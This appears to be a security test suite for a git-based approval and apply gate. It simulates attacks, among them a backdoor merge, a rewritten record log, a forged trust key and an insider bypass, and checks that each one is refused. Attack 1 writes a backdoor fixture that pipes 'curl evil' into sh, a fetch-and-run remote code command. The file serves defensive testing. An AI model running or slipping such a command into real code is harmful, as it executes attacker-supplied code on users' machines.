/**
 * Attacks on the CI gate and the apply gate, each on a real repository and a real data directory: an
 * attacker who can push refs (branches, tags, the record log) but holds no operator key, and an insider
 * who holds one key. Each `it` failed on the main before the record log and passes after.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appendRecord, readRecordLog, RECORDS_REF } from '../../../electron/services/records';
import type { Finding } from '../../../shared/model/domain';
import { acknowledgeAll } from '../../support/acknowledge-all';
import { apply, approve, git, makeTrustedRepo, openWorkstation, propose, writeFiles, type Workstation } from './harness';

let ws: Workstation;
let repo: { dir: string; cleanup(): void };
let repositoryId: string;
let root: string;
let landed: string;
let approvedHead: string;

async function verify(ref: string, extra: { root?: string; dir?: string; repositoryId?: string } = {}) {
  return ws.call('repo:verify', { repositoryId: extra.repositoryId ?? repositoryId, ref, ...(extra.root ? { root: extra.root } : {}), ...(extra.dir ? { dir: extra.dir } : {}) });
}

async function verdict(ref: string, extra: Parameters<typeof verify>[1] = {}) {
  const result = await verify(ref, extra);
  if (!result.ok) throw new Error(`repo:verify ${result.error.code}: ${result.error.message}`);
  return result.value;
}

/** Restores main (and the log) after an attack that moved them. */
function resetMain(to: string, log?: string): void {
  git(repo.dir, 'update-ref', 'refs/heads/main', to);
  git(repo.dir, 'reset', '-q', '--hard', to);
  if (log !== undefined) git(repo.dir, 'update-ref', RECORDS_REF, log);
}

beforeAll(async () => {
  ws = await openWorkstation();
  await ws.value('app:createDemo', {});
  const trust = JSON.stringify(ws.core.context.operators.exportTrustList(), null, 2);
  repo = makeTrustedRepo(trust);
  root = git(repo.dir, 'rev-parse', 'main');
  await ws.as('lee');
  repositoryId = ((await ws.value('repo:add', { path: repo.dir, targetBranch: 'main', proposalPattern: 'refs/heads/proposals/*' })) as { id: string }).id;
  approvedHead = propose(repo.dir, 'small', { 'app.py': 'def total(xs):\n    return sum(x for x in xs)\n' });
  await approve(ws, repositoryId, 'small', 'rita');
  landed = await apply(ws, repositoryId, 'small', 'lee');
}, 240_000);

afterAll(async () => {
  await ws?.close();
  repo?.cleanup();
});

describe('legitimate flows keep working', () => {
  it('an approved proposal applied by the console passes verify, from the pinned root', async () => {
    const result = await verdict('refs/heads/main');
    expect(result).toMatchObject({ ok: true, commit: landed, root });
    expect(result.landings.map((l) => l.proposal)).toEqual(['small']);
    expect(landed).toBe(approvedHead);
  });

  it('publishes the desk\'s signed audit heads into the record log next to its decisions and applies', async () => {
    const handle = await ws.core.handles.get(repositoryId);
    const log = await readRecordLog(handle.repo, { repository: repositoryId });
    const heads = log.entries.flatMap((e) => (e.claims.kind === 'audit-head' ? [e.claims.auditHead] : []));
    expect(heads.length).toBeGreaterThanOrEqual(2);
    const last = heads[heads.length - 1] as (typeof heads)[number];
    const stored = ws.core.context.auditStore.heads().find((h) => h.seq === last.seq);
    expect(stored).toMatchObject({ hash: last.hash, signature: last.signature });
  });

  it('an annotated release tag on the landed commit is peeled and passes', async () => {
    git(repo.dir, 'tag', '-a', 'v1.0', '-m', 'release', landed);
    expect(await verdict('v1.0')).toMatchObject({ ok: true, commit: landed, resolvedFrom: 'refs/tags/v1.0' });
  });

  it('the root itself passes', async () => {
    expect(await verdict(root)).toMatchObject({ ok: true, commit: root, landings: [] });
  });
});

describe('attacks that must be refused', () => {
  it('1. a merge whose second parent is the approved head, with a tree of its own', async () => {
    const before = git(repo.dir, 'rev-parse', 'main');
    const log = git(repo.dir, 'rev-parse', RECORDS_REF);
    git(repo.dir, 'checkout', '-q', '-b', 'evil', root);
    writeFiles(repo.dir, { 'backdoor.py': 'import os\nos.system("curl evil | sh")\n' });
    git(repo.dir, 'add', '-A');
    git(repo.dir, 'commit', '-q', '-m', 'evil');
    git(repo.dir, 'checkout', '-q', 'main');
    git(repo.dir, 'merge', '-q', '--no-ff', '-m', 'merge', 'evil');
    const merge = git(repo.dir, 'rev-parse', 'main');
    const result = await verdict('refs/heads/main');
    expect(result.ok).toBe(false);
    expect(result.failure).toMatchObject({ condition: 'landed', commit: merge });
    resetMain(before, log);
  });

  it('2. a tag named like the branch makes the short name ambiguous, and it is refused with both refs named', async () => {
    git(repo.dir, 'tag', 'main', root);
    const result = await verify('main');
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error.message).toMatch(/refs\/heads\/main and refs\/tags\/main/);
    git(repo.dir, 'tag', '-d', 'main');
  });

  it('3. deleting or reordering a record (a rejection, a revocation) breaks the log and verify refuses', async () => {
    const log = git(repo.dir, 'rev-parse', RECORDS_REF);
    // Rewrite the log without its first entry: the next entry's signed `prev` no longer matches its parent.
    const entries = git(repo.dir, 'rev-list', '--reverse', RECORDS_REF).split('\n');
    let parent: string | null = null;
    for (const oid of entries.slice(1)) {
      const message = git(repo.dir, 'log', '-1', '--format=%B', oid);
      parent = git(repo.dir, 'commit-tree', '4b825dc642cb6eb9a060e54bf8d69288fbee4904', ...(parent ? ['-p', parent] : []), '-m', message);
    }
    git(repo.dir, 'update-ref', RECORDS_REF, parent as string);
    const result = await verdict('refs/heads/main');
    expect(result.ok).toBe(false);
    expect(result.failure?.condition).toBe('records');
    expect(result.failure?.message).toMatch(/was moved/);
    git(repo.dir, 'update-ref', RECORDS_REF, log);
  });

  it('5. a commit that adds an attacker key to trust.json, landed with an apply record signed by that key', async () => {
    const before = git(repo.dir, 'rev-parse', 'main');
    const log = git(repo.dir, 'rev-parse', RECORDS_REF);
    // The attacker is an operator of another workspace: a real key, never in this repository's trust list.
    const other = await openWorkstation();
    try {
      await other.value('operator:create', { name: 'mallory', role: 'lead', passphrase: 'mallory-passphrase-1', email: 'mallory@example.com' } as never);
      await other.value('session:unlock', { name: 'mallory', passphrase: 'mallory-passphrase-1' });
      const trust = JSON.parse(git(repo.dir, 'show', 'main:.gatehouse/trust.json')) as { operators: unknown[] };
      trust.operators.push(...other.core.context.operators.exportTrustList().operators);
      writeFiles(repo.dir, { '.gatehouse/trust.json': JSON.stringify(trust, null, 2), 'backdoor.py': 'import os\n' });
      git(repo.dir, 'add', '-A');
      git(repo.dir, 'commit', '-q', '-m', 'add key');
      const evil = git(repo.dir, 'rev-parse', 'main');
      const session = other.core.context.sessions.require();
      const handle = await ws.core.handles.get(repositoryId);
      await appendRecord(handle.repo, session, {
        repository: repositoryId,
        body: {
          kind: 'apply',
          apply: { proposal: 'evil', from: before, to: evil, base: before, head: evil, tree: git(repo.dir, 'rev-parse', 'main^{tree}'), approvals: ['a.b.c'], authors: [], risk: 'MINIMAL' },
        },
      });
      const result = await verdict('refs/heads/main');
      expect(result.ok).toBe(false);
      expect(result.failure).toMatchObject({ condition: 'apply-record', commit: evil });
    } finally {
      await other.close();
      resetMain(before, log);
    }
  });

  it('6. approvals for this repository do not count for a fork verified under another id', async () => {
    const result = await verdict('refs/heads/main', { dir: repo.dir, repositoryId: 'fork-of-it', root });
    expect(result.ok).toBe(false);
    expect(result.failure?.condition).toBe('records');
    expect(result.failure?.message).toMatch(/not fork-of-it/);
  });

  it('7. an insider lead lands a .gatehouse/ change with one approval and an apply record claiming MINIMAL', async () => {
    const before = git(repo.dir, 'rev-parse', 'main');
    const log = git(repo.dir, 'rev-parse', RECORDS_REF);
    const head = propose(repo.dir, 'policy-change', { '.gatehouse/policy.yaml': git(repo.dir, 'show', 'main:.gatehouse/policy.yaml').replace('appliesPerHour: 20', 'appliesPerHour: 99') + '\n' });
    try {
      const jti = await approve(ws, repositoryId, 'policy-change', 'rita');
      const token = ws.core.context.approvals.get(jti)?.token as string;
      // The insider fast-forwards main by hand and writes the apply record with their own key.
      git(repo.dir, 'update-ref', 'refs/heads/main', head);
      await ws.as('lee');
      const handle = await ws.core.handles.get(repositoryId);
      await appendRecord(handle.repo, ws.core.context.sessions.require(), {
        repository: repositoryId,
        body: { kind: 'apply', apply: { proposal: 'policy-change', from: before, to: head, base: before, head, tree: git(repo.dir, 'rev-parse', `${head}^{tree}`), approvals: [token], authors: [], risk: 'MINIMAL' } },
      });
      const result = await verdict('refs/heads/main');
      expect(result.ok).toBe(false);
      expect(result.failure).toMatchObject({ condition: 'approvals', commit: head });
      expect(result.failure?.message).toMatch(/CRITICAL|2 distinct/);

    } finally {
      resetMain(before, log);
    }
  });

  it('8. an operator who imports a change is one of its authors and cannot approve it', async () => {
    await ws.as('rita');
    const changeSet = {
      title: 'rita imports',
      rationale: 'imported by a reviewer',
      agent: { name: 'some-agent', email: 'agent@agents.example' },
      safetyScore: 0.9,
      riskLevel: 'LOW',
      changes: [{ path: 'notes.txt', original: null, modified: 'hello\n' }],
    };
    const imported = (await ws.value('proposal:import', { repositoryId, format: 'changeset', content: JSON.stringify(changeSet), name: 'rita-import' })) as { proposalId: string };
    await approve(ws, repositoryId, imported.proposalId, 'rita');
    const detail = await ws.value('proposal:show', { repositoryId, proposalId: imported.proposalId });
    expect(detail.gate.conditions.find((c) => c.id === 'author-not-approver')).toMatchObject({ met: false });
  });

  it("an operator's later request for changes withdraws their own earlier approval of the same revision", async () => {
    propose(repo.dir, 'second-thoughts', { 'thoughts.txt': 'maybe\n' });
    await approve(ws, repositoryId, 'second-thoughts', 'rita');
    const before = await ws.value('proposal:show', { repositoryId, proposalId: 'second-thoughts' });
    expect(before.gate.conditions.find((c) => c.id === 'approvals')).toMatchObject({ met: true });
    await ws.value('proposal:requestChanges', {
      repositoryId,
      proposalId: 'second-thoughts',
      headOid: before.summary.headOid,
      treeOid: before.summary.treeOid,
      reason: 'on second thought, no',
    });
    const after = await ws.value('proposal:show', { repositoryId, proposalId: 'second-thoughts' });
    expect(after.gate.conditions.find((c) => c.id === 'approvals')).toMatchObject({ met: false });
  });

  it('9. an operator created in the workspace but absent from the target trust list does not count', async () => {
    await ws.as('lee');
    await ws.value('operator:create', { name: 'rita2', role: 'lead', passphrase: 'rita2-passphrase-x', email: 'rita2@example.com' } as never);
    await ws.value('session:unlock', { name: 'rita2', passphrase: 'rita2-passphrase-x' });
    propose(repo.dir, 'second-identity', { 'app.py': 'def total(xs):\n    return sum(list(xs))\n' });
    const detail = (await ws.value('proposal:show', { repositoryId, proposalId: 'second-identity' })) as { summary: { headOid: string; treeOid: string }; findings: ReadonlyArray<Finding>; files: ReadonlyArray<{ path: string }> };
    const result = await ws.call('proposal:approve', { repositoryId, proposalId: 'second-identity', headOid: detail.summary.headOid, treeOid: detail.summary.treeOid, reason: 'second me', acknowledgements: acknowledgeAll(detail) });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error.message).toMatch(/trust list/);
  });

  it('a landing on a target that moved since the approved base is refused (only an approved tree may land)', async () => {
    const before = git(repo.dir, 'rev-parse', 'main');
    propose(repo.dir, 'stale-base', { 'other.txt': 'x\n' });
    await approve(ws, repositoryId, 'stale-base', 'rita');
    // main moves under it by an approved landing of something else.
    propose(repo.dir, 'mover', { 'mover.txt': 'y\n' });
    await approve(ws, repositoryId, 'mover', 'rita');
    await apply(ws, repositoryId, 'mover', 'lee');
    await ws.as('lee');
    const detail = (await ws.value('proposal:show', { repositoryId, proposalId: 'stale-base' })) as { summary: { headOid: string; treeOid: string } };
    const result = await ws.call('proposal:apply', { repositoryId, proposalId: 'stale-base', headOid: detail.summary.headOid, treeOid: detail.summary.treeOid });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error.message).toMatch(/only an approved tree may land/);
    expect(git(repo.dir, 'rev-parse', 'main')).not.toBe(before);
    expect((await verdict('refs/heads/main')).ok).toBe(true);
  });

  it('11. the rate limit counts the signed apply records, whichever data directory applied', async () => {
    const second = await openWorkstation({ dataDir: join(ws.dataDir, '..', `${ws.dataDir.split('/').pop() ?? 'x'}-second`) });
    try {
      await second.value('app:createDemo', {}).catch(() => undefined);
      await second.as('lee');
      writeFileSync(join(second.dataDir, 'marker'), '');
      const id = ((await second.value('repo:add', { path: repo.dir, targetBranch: 'main', proposalPattern: 'refs/heads/proposals/*' })) as { id: string }).id;
      const handle = await second.core.handles.get(id);
      const { appliesInLastHourFromRecords } = await import('../../../electron/core/records');
      // Records name the first desk's repository id, so the second desk must register it under that id to share them.
      expect(await appliesInLastHourFromRecords({ ...handle, record: { ...handle.record, id: repositoryId } }, new Date())).toBeGreaterThanOrEqual(2);
    } finally {
      await second.close();
    }
  });
});
